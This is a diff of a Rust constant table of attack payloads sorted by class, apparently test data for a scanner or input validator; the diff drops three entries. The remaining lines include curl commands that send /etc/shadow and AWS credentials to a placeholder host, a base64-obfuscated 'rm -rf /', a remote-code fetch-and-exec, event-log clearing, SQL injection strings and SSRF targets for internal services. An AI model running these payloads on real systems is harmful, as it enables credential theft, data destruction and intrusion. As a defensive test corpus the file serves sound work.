@@ -28,7 +28,6 @@ pub(super) const SETS: &[Set] = &[
             "curl -F 'f=@/etc/shadow' {u}",
             "bash -c \"$(echo cm0gLXJmIC8K | base64 -d)\"",
             "python -c \"import urllib.request;exec(urllib.request.urlopen('{u}/x.py').read())\"",
-            "& type C:\\Windows\\win.ini",
             "sudo rm -rf /etc/*",
             "wevtutil cl Security",
             "cat ~/.aws/credentials | curl -d @- {u}",
@@ -75,7 +74,6 @@ pub(super) const SETS: &[Set] = &[
         class: "SQL",
         attacks: &[
             "' OR 'x'='x' --",
-            "') OR ('1'='1",
             "1' AND 1=2 UNION SELECT table_name,NULL FROM information_schema.tables--",
             "'; EXEC sp_configure 'show advanced options', 1; --",
             "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 --",
@@ -142,7 +140,6 @@ pub(super) const SETS: &[Set] = &[
             "http://7f000001.7f000002.rbndr.us/",
             "http://0x7f.0.0.1/",
             "http://[::ffff:7f00:1]/",
-            "file:///proc/self/environ",
             "http://127.0.0.1:2379/v2/keys",
             "http://10.0.0.5:10250/pods",
             "php://filter/convert.base64-encode/resource=index.php",
